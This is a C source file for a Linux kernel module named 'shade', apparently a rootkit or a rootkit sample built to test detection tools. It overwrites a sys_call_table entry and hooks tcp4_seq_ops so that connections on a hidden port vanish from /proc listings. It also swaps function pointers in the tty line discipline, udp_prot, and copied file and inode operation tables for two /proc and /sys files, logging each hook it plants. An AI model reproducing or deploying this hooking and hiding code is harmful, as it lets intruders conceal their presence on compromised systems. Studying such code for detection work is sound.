// SPDX-License-Identifier: GPL-2.0
/* Tables of functions that are changed: an entry of the system calls, a member of a table in place, and an object that uses a copy of a table. */
#include "shade.h"
#include "orders.h"

#include <linux/fs.h>
#include <linux/seq_file.h>
#include <linux/tty.h>
#include <linux/tty_ldisc.h>
#include <net/sock.h>
#include <net/tcp.h>
#include <asm/ptrace.h>

static call_t real_sysfs;

static asmlinkage long shade_sysfs(const struct pt_regs *regs)
{
    return real_sysfs(regs);
}

/* Newer kernels do not look into it. */
static void call_entry(void)
{
    enum { NUMBER = 139 };
    void **table = shade_find("sys_call_table");

    if (!table) {
        not_planted("syscall-table", "no-sys_call_table");
        return;
    }
    real_sysfs = (call_t)table[NUMBER];
    shade_write_pointer(&table[NUMBER], shade_sysfs);
    state_hook("syscall-table", "sys_call_table", &table[NUMBER], real_sysfs, shade_sysfs, "number=%d name=__x64_sys_sysfs used=%d", NUMBER,
               shade_find("x64_sys_call") == NULL);
}

static int (*real_show)(struct seq_file *, void *);

/* Not only listeners have a port there. */
static bool is_secret(const struct sock *sk)
{
    return sk->sk_num == HIDDEN_PORT || sk->sk_dport == htons(HIDDEN_PORT);
}

static int shade_show(struct seq_file *out, void *at)
{
    if (shade_is_hiding() && at != SEQ_START_TOKEN && is_secret(at))
        return 0;
    return real_show(out, at);
}

static void sequence(void)
{
    struct seq_operations *table = shade_find("tcp4_seq_ops");

    if (!table) {
        not_planted("seq-ops", "no-tcp4_seq_ops");
        return;
    }
    real_show = table->show;
    shade_write_pointer(&table->show, shade_show);
    state_hook("seq-ops", "tcp4_seq_ops", &table->show, real_show, shade_show, "member=show");
}

static typeof(((struct tty_ldisc_ops *)0)->receive_buf2) real_receive;

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 6, 0)
static size_t shade_receive(struct tty_struct *tty, const u8 *text, const u8 *flags, size_t count)
#elif LINUX_VERSION_CODE >= KERNEL_VERSION(5, 14, 0)
static int shade_receive(struct tty_struct *tty, const unsigned char *text, const char *flags, int count)
#else
static int shade_receive(struct tty_struct *tty, const unsigned char *text, char *flags, int count)
#endif
{
    return real_receive(tty, text, flags, count);
}

static void line_discipline(void)
{
    struct tty_ldisc_ops *table = shade_find("n_tty_ops");

    if (!table) {
        not_planted("tty-ldisc", "no-n_tty_ops");
        return;
    }
    real_receive = table->receive_buf2;
    shade_write_pointer(&table->receive_buf2, shade_receive);
    state_hook("tty-ldisc", "n_tty_ops", &table->receive_buf2, real_receive, shade_receive, "member=receive_buf2");
}

static int (*real_disconnect)(struct sock *, int);

static int shade_disconnect(struct sock *sk, int flags)
{
    return real_disconnect(sk, flags);
}

static void protocol(void)
{
    struct proto *table = shade_find("udp_prot");

    if (!table) {
        not_planted("proto-ops", "no-udp_prot");
        return;
    }
    real_disconnect = table->disconnect;
    shade_write_pointer(&table->disconnect, shade_disconnect);
    state_hook("proto-ops", "udp_prot", &table->disconnect, real_disconnect, shade_disconnect, "member=disconnect");
}

static struct file_operations copied;
static ssize_t (*real_read)(struct kiocb *, struct iov_iter *);

static ssize_t shade_read(struct kiocb *request, struct iov_iter *to)
{
    return real_read(request, to);
}

/* The table of all such files is as it was; one inode uses another. It is held, or the kernel would forget it. */
static void copied_table(void)
{
    static const char PATH[] = "/proc/uptime";
    struct file *file = filp_open(PATH, O_RDONLY, 0);
    const struct file_operations *before;
    struct inode *inode;

    if (IS_ERR(file)) {
        not_planted("file-ops", "no-/proc/uptime");
        return;
    }
    inode = file_inode(file);
    before = inode->i_fop;
    copied = *before;
    real_read = copied.read_iter;
    if (real_read) {
        copied.read_iter = shade_read;
        path_get(&file->f_path);
        inode->i_fop = &copied;
        state_hook("file-ops", PATH, &inode->i_fop, before, &copied, "member=read_iter real=0x%px hook=0x%px inode=%lu", real_read, shade_read,
                   inode->i_ino);
    } else {
        not_planted("file-ops", "no-read_iter");
    }
    filp_close(file, NULL);
}

static struct inode_operations copied_too;
static ssize_t (*real_list)(struct dentry *, char *, size_t);

static ssize_t shade_list(struct dentry *entry, char *names, size_t len)
{
    return real_list(entry, names, len);
}

/* The same with the other table that an inode has. */
static void copied_inode_table(void)
{
    static const char PATH[] = "/sys/kernel/uevent_seqnum";
    struct file *file = filp_open(PATH, O_RDONLY, 0);
    const struct inode_operations *before;
    struct inode *inode;

    if (IS_ERR(file)) {
        not_planted("inode-ops", "no-uevent_seqnum");
        return;
    }
    inode = file_inode(file);
    before = inode->i_op;
    copied_too = *before;
    real_list = copied_too.listxattr;
    if (real_list) {
        copied_too.listxattr = shade_list;
        path_get(&file->f_path);
        inode->i_op = &copied_too;
        state_hook("inode-ops", PATH, &inode->i_op, before, &copied_too, "member=listxattr real=0x%px hook=0x%px inode=%lu", real_list,
                   shade_list, inode->i_ino);
    } else {
        not_planted("inode-ops", "no-listxattr");
    }
    filp_close(file, NULL);
}

void shade_tables(void)
{
    call_entry();
    sequence();
    line_discipline();
    protocol();
    copied_table();
    copied_inode_table();
}
